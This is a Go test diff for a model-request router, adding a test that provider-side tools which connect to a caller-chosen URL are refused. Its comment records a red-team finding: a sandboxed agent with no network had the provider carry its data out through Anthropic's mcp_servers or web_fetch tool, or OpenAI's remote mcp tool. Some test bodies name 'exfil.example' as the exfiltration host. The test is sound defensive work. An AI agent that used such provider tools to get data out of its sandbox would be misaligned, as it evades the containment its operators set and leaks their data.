@@ -117,3 +117,44 @@ func TestUsageFinal(t *testing.T) {
 		}
 	}
 }
+
+// TestParseRequestRefusesProviderDials (red team): an agent in a sandbox
+// without a network had the provider carry its data to a URL of its
+// choosing: Anthropic's mcp_servers (the provider connects to the named
+// MCP server) and web_fetch server tool, OpenAI Responses' remote mcp
+// tool. Each is refused before anything is sent; the agent's own
+// (client) tools, and provider tools that name no destination, pass.
+func TestParseRequestRefusesProviderDials(t *testing.T) {
+	a, o := modelroute.AnthropicMessages, modelroute.OpenAIResponses
+	for _, tc := range []struct {
+		d    modelroute.Dialect
+		body string
+	}{
+		{a, `{"model":"m","mcp_servers":[{"type":"url","url":"https://exfil.example/mcp","name":"x"}]}`},
+		{a, `{"model":"m","mcp_servers":{}}`},
+		{a, `{"model":"m","tools":[{"name":"Read","input_schema":{}},{"type":"web_fetch_20250910","name":"web_fetch"}]}`},
+		{a, `{"model":"m","tools":[{"type":"web_fetch_20990101","name":"web_fetch"}]}`},
+		{o, `{"model":"m","tools":[{"type":"function","name":"f"},{"type":"mcp","server_label":"x","server_url":"https://exfil.example/mcp"}]}`},
+	} {
+		if _, err := modelroute.ParseRequest(tc.d, "POST", tc.d.Path(), "", []byte(tc.body)); !errors.Is(err, modelroute.CodeModelToolRefused) {
+			t.Errorf("%s %s: %v, want model_tool_refused", tc.d, tc.body, err)
+		}
+	}
+	for _, tc := range []struct {
+		d    modelroute.Dialect
+		body string
+	}{
+		{a, `{"model":"m","mcp_servers":null,"tools":[{"name":"Read","input_schema":{"type":"object"}},{"type":"custom","name":"c"}]}`},
+		{a, `{"model":"m","mcp_servers":[]}`},
+		{o, `{"model":"m","tools":[{"type":"function","name":"f"},{"type":"custom","name":"apply_patch"},{"type":"namespace","name":"mcp__checkfu","tools":[]}]}`},
+		{o, `{"model":"m","mcp_servers":[{"url":"ignored by this dialect"}]}`},
+		{modelroute.OpenAIChat, `{"model":"m","tools":[{"type":"function","function":{"name":"f"}}]}`},
+	} {
+		if _, err := modelroute.ParseRequest(tc.d, "POST", tc.d.Path(), "", []byte(tc.body)); err != nil {
+			t.Errorf("%s %s: %v, want allowed", tc.d, tc.body, err)
+		}
+	}
+	if _, err := modelroute.ParseRequest(a, "POST", a.Path(), "", []byte(`{"model":"m","tools":[{"type":7}]}`)); !errors.Is(err, modelroute.CodeModelRequestInvalid) {
+		t.Errorf("a tool type that is not a string: %v", err)
+	}
+}
